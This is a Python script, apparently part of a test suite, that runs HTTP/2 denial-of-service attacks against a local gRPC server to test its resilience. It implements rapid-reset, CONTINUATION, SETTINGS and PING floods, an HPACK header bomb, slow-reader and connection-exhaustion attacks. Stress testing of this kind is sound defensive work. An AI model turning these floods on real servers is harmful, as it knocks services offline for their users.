"""One hostile peer, for some seconds: it comes back whenever it is thrown out. Loopback only.

Usage: transport_attack.py NAME PORT SECONDS
"""

import argparse
import asyncio
import contextlib
import resource
import time
from collections.abc import Callable, Iterable

from epp.testing.raw_http2 import (
    ACK,
    GRPC_HEADERS,
    PREFACE,
    Kind,
    RawPeer,
    data,
    frame,
    hpack,
    hpack_indexed,
    message,
    raw_peer,
    request,
    reset,
    settings,
    window_update,
)

PATH = b"/bench.Echo/Echo"
BATCH = 200
BOMB = (
    hpack([*GRPC_HEADERS[:3], (b":path", PATH), *GRPC_HEADERS[3:]])
    + hpack_indexed(b"a", b"x" * 4000)
    + b"\xbe" * 1000
)
WIDE = PREFACE + settings({4: 0x7FFFFFFF}) + window_update(0, 0x3FFF0000)

Batch = Callable[[int], Iterable[bytes]]
"""What to send as batch number so and so."""


def _ids(batch: int) -> range:
    return range(2 * BATCH * batch + 1, 2 * BATCH * (batch + 1), 2)


FLOODS: dict[str, Batch] = {
    "rapid reset": lambda n: (request(i, PATH) + reset(i) for i in _ids(n)),
    "CONTINUATION": lambda n: [
        frame(Kind.HEADERS, 0, 2 * n + 1, hpack(GRPC_HEADERS)),
        *[frame(Kind.CONTINUATION, 0, 2 * n + 1, b"")] * BATCH,
    ],
    "SETTINGS": lambda _: [settings()] * BATCH,
    "PING": lambda _: [frame(Kind.PING, 0, 0, b"12345678")] * BATCH,
    "empty DATA": lambda n: [request(2 * n + 1, PATH), *[data(2 * n + 1, b"")] * BATCH],
    "WINDOW_UPDATE": lambda _: [window_update(0, 1)] * BATCH,
    "header bomb": lambda n: [frame(Kind.HEADERS, 4, 2 * n + 1, BOMB)],
    "half-open streams": lambda n: (request(i, PATH) + data(i, b"\0\0\0\1\0x") for i in _ids(n)),
    "garbage": lambda _: [b"\xff" * 10_000],
}


async def flood(batch: Batch, port: int, until: float) -> None:
    """Send batches as fast as they are taken."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            async with raw_peer(port, greeting=WIDE) as peer:
                await _pour(batch, peer, until)


async def _pour(batch: Batch, peer: RawPeer, until: float) -> None:
    ended = asyncio.create_task(peer.rest())
    number = 0
    while time.monotonic() < until and not ended.done() and number < 40_000_000 // BATCH:
        await peer.send(*batch(number))
        await asyncio.sleep(0)
        number += 1
    ended.cancel()
    await asyncio.wait([ended])


async def slow_reader(port: int, until: float) -> None:
    """Ask for 10 MB and do not read them."""
    async with raw_peer(port, greeting=WIDE, receive_buffer=8192) as peer:
        await peer.read_until(Kind.SETTINGS)
        await peer.send(frame(Kind.SETTINGS, ACK, 0))  # or our windows do not count
        await peer.send(request(1, PATH), *[_in_frames(1, b"x" * 100_000)] * 100)
        await asyncio.sleep(until - time.monotonic())


def _in_frames(stream_id: int, payload: bytes) -> bytes:
    whole = message(payload)
    return b"".join(data(stream_id, whole[at : at + 16_384]) for at in range(0, len(whole), 16_384))


async def idle(port: int, until: float, count: int = 5_000) -> None:
    """As many connections as descriptors allow."""
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    writers = []
    for _ in range(min(count, soft - 100)):
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(PREFACE + settings())
        writers.append(writer)
    await asyncio.sleep(max(until - time.monotonic(), 0.0))
    for writer in writers:
        writer.transport.abort()


NAMES = (*FLOODS, "slow reader", "5,000 idle connections")


async def attack(name: str, port: int, seconds: float) -> None:
    """Run one."""
    until = time.monotonic() + seconds
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):  # a server that does not read holds a send
            if name in FLOODS:
                await flood(FLOODS[name], port, until)
            elif name == "slow reader":
                await slow_reader(port, until)
            else:
                await idle(port, until)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=NAMES)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    chosen = parser.parse_args()
    asyncio.run(attack(chosen.name, chosen.port, chosen.seconds))
